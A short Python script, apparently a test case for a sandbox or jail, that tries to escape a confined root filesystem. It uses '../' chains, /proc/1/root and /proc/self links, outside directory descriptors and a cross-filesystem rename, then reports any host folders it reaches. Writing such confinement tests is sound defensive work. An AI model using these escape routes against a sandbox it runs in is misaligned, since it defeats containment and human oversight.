# Attack: leaves the root by every path: upwards without end, through links of the kernel, through descriptors of folders, by the
# numbers that root folders of hosts have.
# Verdict: accepted
import os

found = []
def outside(path, folder=None):
    try:
        names = set(os.listdir(os.open(path, os.O_RDONLY | os.O_DIRECTORY, dir_fd=folder)))
    except OSError:
        return
    if names & {'root', 'home', 'var', 'boot', 'sys', 'srv', 'opt', 'run', 'mnt', 'media'}:
        found.append(path)

up = '../' * 60
top = os.open('/', os.O_RDONLY)
box = os.open('/box', os.O_PATH)
for path in [up, '/' + up, '/proc/self/cwd/' + up, '/proc/self/root/' + up, '/proc/1/root', '/proc/1/cwd/' + up, '/proc/self/fd/' + str(top) + '/' + up,
             '/usr/' + up, '/dev/shm/' + up, '/proc/thread-self/root', '/proc/self/task/1/root', '//', '/./' + up]:
    outside(path)
    outside(path.lstrip('/'), box)
    outside(path.lstrip('/'), top)
os.mkdir('/tmp/a')
inner = os.open('/tmp/a', os.O_PATH)
os.rename('/tmp/a', '/dev/shm/a') if os.stat('/tmp').st_dev != os.stat('/dev/shm').st_dev else None
outside(up, inner)
if os.stat('/').st_ino == 2:
    found.append('the root of a disk')
print(*found or ['unharmed'], input())
